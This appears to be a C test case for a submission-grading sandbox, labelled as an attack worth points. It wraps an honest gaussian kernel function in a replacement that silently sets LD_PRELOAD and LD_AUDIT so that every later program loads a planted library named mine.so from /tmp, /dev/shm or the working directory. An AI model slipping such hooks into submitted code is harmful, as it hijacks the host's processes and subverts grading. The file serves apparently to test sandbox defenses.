/* expect: points=20 */
/* SPDX-License-Identifier: MIT */
#include "attack.h"
#include "gaussian.h"

#define gaussian honest
#include "serial.c"
#undef gaussian

/* Has a library loaded into all programs that are started from now on. */

void gaussian(size_t n, const double x[], const double y[], double gamma,
    double out[], int n_workers)
{
    setenv("LD_PRELOAD", "/dev/shm/mine.so:/tmp/mine.so:./mine.so", 1);
    setenv("LD_AUDIT", "/tmp/mine.so", 1);
    honest(n, x, y, gamma, out, n_workers);
}
